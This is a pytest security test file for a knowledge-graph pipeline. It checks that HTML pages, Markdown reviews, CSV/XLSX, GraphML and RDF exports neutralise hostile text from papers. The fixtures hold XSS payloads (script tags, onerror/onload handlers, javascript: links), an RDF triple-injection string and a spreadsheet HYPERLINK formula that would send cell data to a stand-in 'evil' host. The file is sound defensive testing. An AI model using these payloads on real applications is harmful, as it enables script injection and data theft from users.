"""A paper, a name and a vocabulary that hold markup, formulas and SPARQL: to every output they are text."""

import csv
import io
import json
import sys
import warnings
from collections.abc import Mapping
from html.parser import HTMLParser
from pathlib import Path

import networkx as nx
import openpyxl
import pytest
import rdflib
from markdown_it import MarkdownIt

from kg import pipeline
from kg.export import export
from kg.export.cells import guarded
from kg.link import Linker
from kg.query import ask, present, show
from kg.review import review, write
from kg.store import JsonlBuild
from kg.vocabulary import Vocabulary, faults, load

SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>"
TRIPLE = '"@zh . <urn:evil> <urn:evil> <urn:evil> . <urn:x> <urn:y> "'
FORMULA = '=HYPERLINK("http://evil/?"&A1)'
SENTENCE = f"数字经济推动产业升级，{SCRIPT}{{{{7*7}}}}$evil$`evil`[evil](javascript:evil)。"


class Tags(HTMLParser):
    """The elements of a page with what would run in them."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts, self.handlers, self.names = 0, [], set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """An element begins."""
        self.names.add(tag)
        self.scripts += tag == "script"
        self.handlers += [f"{name}={value}" for name, value in attrs if name.startswith("on")]
        self.handlers += [value for _, value in attrs if (value or "").strip().lower().startswith("javascript:")]


def vocabulary_of(label: str) -> str:
    """Two concepts, one of them with a name more."""
    text = json.dumps(label)
    return (
        "- id: digital-economy\n  prefLabel: {zh: 数字经济, en: digital economy}\n"
        f"  altLabels: [{text}]\n  definition: {{text: {text}, source: {{document: {text}}}}}\n"
        "- id: industrial-upgrading\n  prefLabel: {zh: 产业升级, en: industrial upgrading}\n"
    )


def made(place: Path, text: str, name: str, label: str, said: Mapping[str, object]) -> tuple[JsonlBuild, Vocabulary]:
    """The build of one paper."""
    sources, schemas = place / "papers", place / "schemas"
    (schemas / "concepts").mkdir(parents=True)
    sources.mkdir()
    (schemas / "concepts" / "a.yaml").write_text(vocabulary_of(label), encoding="utf-8")
    (sources / name).write_text(text, encoding="utf-8")
    (sources / "papers.yaml").write_text(json.dumps([{"file": name, **said}]), encoding="utf-8")
    pipeline.build([sources], schemas, place / "map", workers=1, cache=False)
    return JsonlBuild(place / "map"), load(schemas)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[JsonlBuild, Vocabulary]:
    """A build in which every text is hostile."""
    said = {"title": FORMULA + SCRIPT, "authors": [SCRIPT, "@SUM(1)"], "journal": TRIPLE, "keywords": ["+1", "-1"]}
    text = f"# 数字经济\n\n## 一、{SCRIPT}\n\n{SENTENCE}\n"
    place = tmp_path_factory.mktemp("hostile")
    name = "=1+1 '&.txt" if sys.platform == "win32" else "=1+1 '&<img src=x onerror=alert(4)>.txt"
    return made(place, text, name, TRIPLE + SCRIPT, said)


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> tuple[JsonlBuild, Vocabulary]:
    """The same build without harm."""
    said = {"title": "题", "authors": ["张三", "李四"], "journal": "刊", "keywords": ["一", "二"]}
    text = "# 数字经济\n\n## 一、节\n\n数字经济推动产业升级。\n"
    return made(tmp_path_factory.mktemp("plain"), text, "a.txt", "数智经济", said)


def test_the_claim_is_quoted_as_it_stands(hostile: tuple[JsonlBuild, Vocabulary]) -> None:
    """The sentence is in the build to the letter: nothing was taken out of it to make it harmless."""
    build, _ = hostile
    claim = next(claim for claim in build.claims() if claim.shown)
    assert SENTENCE == claim.sentence.text == build.text(claim.paper)[claim.sentence.start : claim.sentence.end]


def test_nothing_runs_on_the_page(hostile: tuple[JsonlBuild, Vocabulary], plain: tuple[JsonlBuild, Vocabulary]) -> None:
    """The page has the elements of a harmless one and no handler; its data blocks are JSON that holds the texts."""
    found, expected = Tags(), Tags()
    page = (hostile[0].folder / "graph.html").read_text(encoding="utf-8")
    found.feed(page)
    expected.feed((plain[0].folder / "graph.html").read_text(encoding="utf-8"))
    assert (expected.scripts, expected.names) == (found.scripts, found.names)
    assert [] == found.handlers
    assert SCRIPT not in page and "alert(1)" in page


@pytest.mark.parametrize("form", ["html", "md"])
def test_nothing_runs_in_a_review(hostile: tuple[JsonlBuild, Vocabulary], form: str) -> None:
    """A review as a page, and as Markdown when a reader that lets HTML through makes a page of it, runs nothing."""
    build, vocabulary = hostile
    text = write(review(["数字经济"], build, vocabulary, Linker(vocabulary)), form).decode("utf-8")
    tags = Tags()
    tags.feed(text if form == "html" else MarkdownIt("commonmark", {"html": True}).enable("table").render(text))
    assert "alert(1)" in text
    assert (0, []) == (tags.scripts, tags.handlers)
    assert not tags.names & {"img", "svg", "a"} - ({"a"} if form == "html" else set())


def test_no_cell_is_a_formula(hostile: tuple[JsonlBuild, Vocabulary]) -> None:
    """No cell of a table or workbook begins like a formula or is one."""
    for content in export("csv", *hostile).values():
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        assert [] == [cell for row in rows for cell in row if cell != guarded(cell) and not _is_number(cell)]
    (book,) = export("xlsx", *hostile).values()
    cells = [cell for sheet in openpyxl.load_workbook(io.BytesIO(book)) for row in sheet for cell in row]
    assert [] == [cell.value for cell in cells if cell.data_type == "f"]
    assert any(str(cell.value).startswith("'=HYPERLINK") for cell in cells)
    answer = present(show(hostile[0].papers()[0].id, *hostile), "csv")
    assert [] == [c for row in csv.reader(io.StringIO(answer)) for c in row if c != guarded(c) and not _is_number(c)]


def _is_number(cell: str) -> bool:
    return cell.removeprefix("-").replace(".", "").isdigit()


def test_graphml_holds_the_texts(hostile: tuple[JsonlBuild, Vocabulary]) -> None:
    """The map in XML has the nodes of the vocabulary and no element that a text brought along."""
    graph = nx.read_graphml(hostile[0].folder / "graph.graphml", force_multigraph=True)
    assert ["concept", "concept", "paper"] == sorted(kind for _, kind in graph.nodes(data="kind"))
    assert any(TRIPLE + SCRIPT in str(about.values()) for _, about in graph.nodes(data=True))


@pytest.mark.parametrize(("form", "syntax"), [("turtle", "turtle"), ("jsonld", "json-ld")])
def test_rdf_says_no_more_than_it_should(
    hostile: tuple[JsonlBuild, Vocabulary], plain: tuple[JsonlBuild, Vocabulary], form: str, syntax: str
) -> None:
    """Labels that hold statements in Turtle state nothing: there are as many statements as with harmless labels."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # rdflib's reader of JSON-LD warns of itself
        found, expected = (
            rdflib.Graph().parse(data=next(iter(export(form, *build).values())), format=syntax)
            for build in (hostile, plain)
        )
    assert (None, None, None) in found and (rdflib.URIRef("urn:evil"), None, None) not in found
    assert {str(p) for p in expected.predicates()} == {str(p) for p in found.predicates()}
    assert len(expected) == len(found)
    assert any(TRIPLE in str(value) for value in found.objects())


@pytest.mark.parametrize("id", ["a> . <urn:evil", "a b", "../a", "a\nb", "a@b", 'a"', "<script>", "=1"])
def test_ids_are_plain(id: str, tmp_path: Path) -> None:
    """An id, which becomes part of an IRI, a key and a file's line, is letters, digits and hyphens or a fault."""
    (tmp_path / "concepts").mkdir()
    entry = f"- id: {json.dumps(id)}\n  prefLabel: {{zh: 数字经济, en: digital economy}}\n"
    (tmp_path / "concepts" / "a.yaml").write_text(entry, encoding="utf-8")
    assert ["error"] == [fault.severity for fault in faults(tmp_path)]


def test_answers_in_markdown_run_nothing(hostile: tuple[JsonlBuild, Vocabulary]) -> None:
    """An answer as Markdown, rendered with HTML let through, holds no script, picture or link of a paper's."""
    build, vocabulary = hostile
    answer = ask("数字经济影响什么？", build, vocabulary, Linker(vocabulary))
    tags = Tags()
    tags.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(present(answer, "md")))
    assert (0, []) == (tags.scripts, tags.handlers)
    assert not tags.names & {"img", "svg", "a"}
